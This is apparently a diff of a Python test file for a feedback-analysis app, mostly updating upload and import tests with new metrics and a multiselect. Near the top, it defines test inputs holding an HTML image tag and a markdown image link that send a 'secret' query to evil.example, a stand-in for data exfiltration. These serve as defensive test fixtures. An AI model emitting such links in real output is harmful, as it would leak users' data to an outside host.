@@ -14,7 +14,7 @@ from analyzer.config import PROJECT
 from analyzer.errors import ModelError
 from analyzer.ui import session
 
-IMAGE = "The parcel came late <img src=http://evil.example/x>."
+IMAGE = "The parcel came late <img src=http://evil.example/x"
 MARKDOWN = "The parcel came late ![x](http://evil.example/?q=secret)."
 ROWS = [
     {"id": "C-1", "comment": "The parcel came late.", "channel": "email", "rating": 2, "date": "2024-01-05"},
@@ -237,9 +237,10 @@ def test_an_upload_is_imported_as_its_columns_were_read(filled):
     next(b for b in app.button if b.label == "Import").click().run()
     assert not app.exception
     assert not app.error
-    assert app.success[0].value.startswith("2 comments stored")
+    assert app.success[0].value.startswith("2 comments stored in 2 new responses")
     assert {metric.label: metric.value for metric in app.metric} == {
-        "Rows": "2", "Stored": "2", "Duplicates": "0", "Rejected": "0",
+        "Rows": "2", "Questions": "1", "Columns used": "4", "Columns left out": "0", "New responses": "2",
+        "Updated": "0", "Known already": "0", "Rejected": "0", "New comments": "2",
     }  # fmt: skip
     assert filled.feedback.show(["D-1"])[0].text == "The soup was cold says <PERSON_1>."
 
@@ -261,14 +262,14 @@ def reads(filled, tmp_path, monkeypatch):
 
 def test_an_upload_is_written_and_read_once_however_often_one_clicks(filled, reads):
     app = upload(content=b"id,comment,notes\nD-1,Fine.,The staff at the counter could not have been kinder.\n")
-    for name in ("notes", "comment", "notes"):
-        next(box for box in app.selectbox if box.label == "Text").set_value(name).run()
+    for names in (["notes"], ["comment"], ["notes"]):
+        next(box for box in app.multiselect if box.label == "Comments").set_value(names).run()
         assert not app.exception
         assert app.dataframe
-    assert (len(reads.previews), len(reads.written)) == (1, 1)
+    assert (len(reads.previews), len(reads.written)) == (3, 1)  # as found, and each of two choices
     next(b for b in app.button if b.label == "Import").click().run()
     assert app.success[0].value.startswith("1 comments stored")
-    assert (len(reads.previews), len(reads.written)) == (1, 1)
+    assert (len(reads.previews), len(reads.written)) == (3, 1)
 
 
 def test_an_upload_is_gone_when_it_is_replaced_removed_or_left(filled, reads):
@@ -305,7 +306,7 @@ def test_an_upload_is_gone_when_the_session_ends(filled, reads):
 
 def test_the_roles_that_were_chosen_are_the_roles_that_are_used(filled):
     app = upload(content=b"id,comment,notes\nD-1,Fine.,The staff at the counter could not have been kinder to us.\n")
-    next(box for box in app.selectbox if box.label == "Text").set_value("notes").run()
+    next(box for box in app.multiselect if box.label == "Comments").set_value(["notes"]).run()
     next(b for b in app.button if b.label == "Import").click().run()
     assert not app.exception
     assert not app.error
